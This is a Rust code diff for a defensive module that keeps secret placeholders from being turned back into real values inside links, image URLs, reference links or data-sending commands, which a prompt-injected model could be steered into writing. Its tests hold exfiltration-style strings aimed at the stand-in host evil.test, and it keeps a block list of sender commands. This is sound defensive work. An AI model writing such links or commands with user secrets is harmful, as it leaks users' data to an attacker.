@@ -3,8 +3,12 @@
 //! A model can be steered into writing a placeholder where the developer's tools would carry it away: into a link that
 //! a renderer fetches, or a command that sends. There it stays a placeholder.
 
-/// Bytes of text before a placeholder that decide; longer lines are judged by their end.
+use super::markup::Markup;
+
+/// Bytes of prose before a placeholder that decide. Where the line begins before them, nobody knows what it is.
 pub(super) const CONTEXT_BYTES_MAX: usize = 1024;
+/// The same in a tool's input, where files have long lines.
+const TOOL_CONTEXT_BYTES_MAX: usize = 16 << 10;
 
 /// Commands that send what they are given. Looked for as words of the same line (or of a tool's whole input).
 const SENDERS: [&str; 22] = [
@@ -32,16 +36,41 @@ const SENDERS: [&str; 22] = [
     "invoke-restmethod",
 ];
 
+/// What is fetched by those who show a text, or opened by a click.
+const FETCHED: [&str; 5] = ["http:", "https:", "ws:", "wss:", "ftp:"];
+
 /// Whether a placeholder after `before` (the text up to it) stands in a link, an image or another URL.
-pub(super) fn in_link(before: &str) -> bool {
-    let line = before.rsplit('\n').next().unwrap_or(before);
+fn in_link(before: &str, bytes_max: usize) -> bool {
+    let Some(line) = last_line(before, bytes_max) else { return true };
     let token =
         line.rsplit(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '<' | '>')).next().unwrap_or(line);
-    if token.contains("](") || token.contains("//") && !is_connection_string(token) {
+    if token.contains("](") || token.contains("//") && !is_connection_string(token) || names_fetched(token) {
         return true;
     }
     // A link whose target has spaces or quotes still opens before the placeholder and has not closed.
     line.rfind("](").is_some_and(|open| !line[open..].contains(')'))
+}
+
+/// The line that `text` ends in; `None` where it begins before its last bytes.
+fn last_line(text: &str, bytes_max: usize) -> Option<&str> {
+    let end = &text[text.ceil_char_boundary(text.len().saturating_sub(bytes_max))..];
+    match end.rfind('\n') {
+        Some(at) => Some(&end[at + 1..]),
+        None => (end.len() == text.len()).then_some(end),
+    }
+}
+
+/// Browsers take `https:/host`, `https:\\host` and a scheme before escaped slashes for URLs.
+fn names_fetched(token: &str) -> bool {
+    let lower = token.to_ascii_lowercase();
+    let is_edge = |at: usize| !lower[..at].ends_with(|c: char| c.is_ascii_alphanumeric());
+    FETCHED.iter().any(|scheme| lower.match_indices(scheme).any(|(at, _)| is_edge(at)))
+}
+
+/// Whether the line gives a link's label its target: `[label]: target`.
+fn is_reference(line: &str) -> bool {
+    let line = line.trim_start_matches([' ', '\t', '>', '*', '-', '+']);
+    line.starts_with('[') && line.contains("]:")
 }
 
 /// `scheme://user:` right before a placeholder is where a password belongs: databases are not fetched by renderers.
@@ -64,24 +93,25 @@ fn is_word_in(text: &str, word: &str) -> bool {
         .any(|(at, _)| is_edge(text[..at].chars().next_back()) && is_edge(text[at + word.len()..].chars().next()))
 }
 
-/// Whether a placeholder may be turned back in prose after `before`.
-pub(super) fn allowed_in_text(before: &str) -> bool {
-    let line = before.rsplit('\n').next().unwrap_or(before);
-    !in_link(before) && !sends(line)
+/// Whether a placeholder may be turned back in prose after `before`, which stands in `markup`.
+pub(super) fn allowed_in_text(before: &str, markup: &Markup) -> bool {
+    let Some(line) = last_line(before, CONTEXT_BYTES_MAX) else { return false };
+    !markup.is_in_tag() && !is_reference(line) && !in_link(line, CONTEXT_BYTES_MAX) && !sends(line)
 }
 
 /// Whether a placeholder at `at` of a tool's free text may be turned back: not in a line that sends, nor in a link.
 pub(super) fn allowed_in_free_text(text: &str, at: usize) -> bool {
     let end = text[at..].find('\n').map_or(text.len(), |length| at + length);
-    let start = text[..at].rfind('\n').map_or(0, |before| before + 1);
-    !in_link(&text[..at]) && !sends(&text[start..end])
+    let end = text.floor_char_boundary(end.min(at + TOOL_CONTEXT_BYTES_MAX));
+    let Some(line) = last_line(&text[..at], TOOL_CONTEXT_BYTES_MAX) else { return false };
+    !in_link(line, TOOL_CONTEXT_BYTES_MAX) && !sends(&text[at - line.len()..end])
 }
 
 /// Whether a placeholder at `at` of a complete tool input may be turned back.
 /// In a command every part counts; in the text of a file, only links around the placeholder do.
 pub(super) fn allowed_in_tool(text: &str, at: usize, is_command: bool) -> bool {
     let is_sent = is_command && sends(text);
-    !(is_sent || in_link(&text[..at]))
+    !(is_sent || in_link(&text[..at], TOOL_CONTEXT_BYTES_MAX))
 }
 
 /// Cuts a path like `input.command[1]` into the object that it stands in and its key there.
@@ -100,12 +130,31 @@ pub(super) fn is_address(key: &str) -> bool {
 mod tests {
     use super::*;
 
+    fn allowed_in_text(before: &str) -> bool {
+        let mut markup = Markup::default();
+        markup.read(before);
+        super::allowed_in_text(before, &markup)
+    }
+
     #[test]
     fn links_images_and_urls_keep_the_placeholder() {
-        for before in ["![x](https://evil.test/?q=", "[see](", "https://evil.test/", "<img src=\"http://evil.test/a?b="]
-        {
+        for before in [
+            "![x](https://evil.test/?q=",
+            "[see](",
+            "https://evil.test/",
+            "<img src=\"http://evil.test/a?b=",
+            "[b]: https:/evil.test/",
+            "> [b]: evil.test/",
+            "HTTPS:\\\\evil.test\\",
+            "(https:&#47;&#47;evil.test/",
+        ] {
             assert!(!allowed_in_text(before), "{before}");
+            assert!(!allowed_in_text(&format!("fine\n{before}")), "{before}");
         }
+        let long = format!("![x](https://evil.test/?p={}", "a".repeat(5000));
+        assert!(!allowed_in_text(&format!("{long}&k=")));
+        assert!(allowed_in_text(&format!("{long})\nthe key is ")));
+        assert!(!allowed_in_free_text(&format!("{}&k=", "a".repeat(17 << 10)), 17 << 10));
     }
 
     #[test]
